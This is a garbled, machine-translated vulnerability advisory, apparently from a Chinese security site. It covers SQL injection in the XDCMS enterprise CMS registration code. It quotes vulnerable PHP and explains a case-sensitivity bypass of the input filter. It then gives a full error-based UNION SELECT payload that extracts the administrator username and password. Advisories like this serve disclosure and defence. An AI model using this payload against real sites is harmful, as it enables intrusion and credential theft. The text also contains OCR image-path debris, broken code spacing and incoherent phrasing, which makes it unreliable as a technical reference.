xdcms a registered user of the SQL injection vulnerability analysis-vulnerability warning-the black bar safety net

ID MYHACK58:62201441641
Type myhack58
Reporter xfkxfk
Modified 2014-01-03T00:00:00


The latest version XDCMS enterprise management system, since the filteris not strict, you can bypass the limit, resulting in a number ofSQL injection

Injection in XDCMS enterprise management system registration function, see\system\modules\member\index. php file:

Registration will be called register_save, the problem lies in the index. php register_save function:

public function register_save(){

$username=safe_html($_POST['username']);//get the UserName, here safe_html function to filter







if(! strlength($username,5)){

showmsg(C('username'). C('str_len_error').' 5','-1');


if(! strlength($password,5)){

showmsg(C('password'). C('str_len_error').' 5','-1');if($password!=$ password2){




$user_num=$this->mysql->num_rows("select * from ". DB_PRE."member where username='$username'");//determine whether the members present, where the UserName may be bypassing the filter, causing the injection, this is the first of theSQL injection





$this->mysql->db_insert('member',"username='".$ username."',password='".$ password."',creat_time='". datetime()."',last_ip='".$ ip."',is_lock='0',logins='0',groupid='1'");//Insert the main fields-Username, Password, where the UserName agreed to cause injection, the second atsql injection


//Insert the Subsidiary field


foreach($fields as $k=>$v){





$field_sql.=",{$k}='{$f_value}'";//here there is no filter, directly into the following update sql statement, resulting in a third placesql injection



$field_sql="update ". DB_PRE."member set {$field_sql} where userid={$last_id}";


showmsg(C('register_success'),'index. php? m=member&f=register');


The first of thesql injection, the registration of a user, and then the capture of:

Finally look at the results, and successfully got the management Username Password:

In the safe_html at although had aSQL injectionis sensitive to the word, and also filter=and, but did not considerSQL injectionsensitive to the word case, where the only filter lowercase, so we use uppercase to bypass, and herethe filter of=and, we can use without the*and the=conventional saveSQL injectionstatement, EXP is as follows:

In the UserName at the input:

‘ UNION SELECT 1,2,3,4,5,6,7,8,9,10,11,12,13,14 FROM (SELECT

count(1),concat(round(rand(0)),(SELECT concat(username,0×2 3,password)FROM

c_admin LIMIT 0,1))a FROMinformation_schema. tablesGROUP by a)b#

Author: xfkxfk